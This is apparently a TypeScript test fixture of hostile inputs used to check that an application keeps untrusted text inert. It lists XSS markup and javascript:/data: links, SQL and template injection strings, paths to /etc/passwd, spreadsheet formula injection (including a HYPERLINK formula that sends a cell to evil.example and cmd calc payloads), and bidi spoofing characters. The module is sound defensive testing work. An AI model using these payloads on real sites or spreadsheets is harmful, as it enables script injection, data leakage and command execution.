/** What marks that a text has run: a page in which a hostile text is inert never has this global. */
export const RAN = '__pwned'

const run = `window.${RAN}=1`

/** More letters than any text of the contract may have, and no place to break them. */
const UNBROKEN = 'W'.repeat(10_000)

/**
 * What somebody who means harm, or a program gone wrong, may put into any text: one of each kind. None of them may run,
 * load anything, turn the words around it, or push anything out of its place.
 */
export const hostileTexts = {
  unbroken: UNBROKEN,
  markup: `<img src=x onerror="${run}"><script>${run}</script><svg onload="${run}"><iframe src="javascript:parent.${run}">`,
  handlers: `" onmouseover="${run}" autofocus onfocus="${run}" style="position:fixed;inset:0" x="`,
  closingTags: `</title></textarea></style></script><script>${run}</script><!--`,
  javascriptLink: `javascript:${run}//https://example.com`,
  dataLink: `data:text/html,<script>${run}</script>`,
  template: "{{7*7}} ${7*7} <%= 7*7 %> %s %n ../../etc/passwd '; DROP TABLE users; --",
  override: 'invoice \u202Efdp.exe\u202D \u2067wol\u2066 \u202Bend',
  rightToLeft: 'مرحبا بالعالم 123 שלום עולם',
  invisible: '\u200B\u200C\u200D\u2060\uFEFF\u00AD\u2063',
  invisibleInside: 'pay\u200Bment \u2060of\uFEFF 1\u200C00',
  emoji: '👨‍👩‍👧‍👦🏴‍☠️🇮🇳👩🏽‍💻❤️‍🔥'.repeat(6),
  control: 'a\u0000b\u001B[31mred\u0007\u0085\u2028line\u2029paragraph\r\nEND:VEVENT\r\nBEGIN:VEVENT\rX:1',
  halfCharacter: 'half \uD83D a character \uDE00',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  plusFormula: "+cmd|' /C calc'!A0",
  minusFormula: "-2+3+cmd|' /C calc'!A0",
  atFormula: '@SUM(1+1)*cmd',
  tabFormula: '\t=1+1',
  returnFormula: '\r=1+1',
  separators: 'one,two;three\t"four"\n=5',
} as const satisfies Record<string, string>

/** As hostile as an email address of the contract may be. */
export const hostileEmails = [
  `${'w'.repeat(200)}@${'w'.repeat(40)}.example`,
  "+cmd_'@evil.example",
  "-2+3_'@evil.example",
  "'_'@evil.example",
] as const

/** Addresses that are well formed, of which none may become a link or be loaded. */
export const hostileLinks = [
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  'file:///etc/passwd',
] as const

/** What may stand where a picture is meant: it must not be asked for, or it must stay a picture. */
export const hostilePictures = [
  'https://evil.example/pixel.png?who=admin',
  '//evil.example/pixel.png',
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`)}`,
  'data:image/png;base64,aHRtbA==',
  'file:///etc/passwd',
] as const
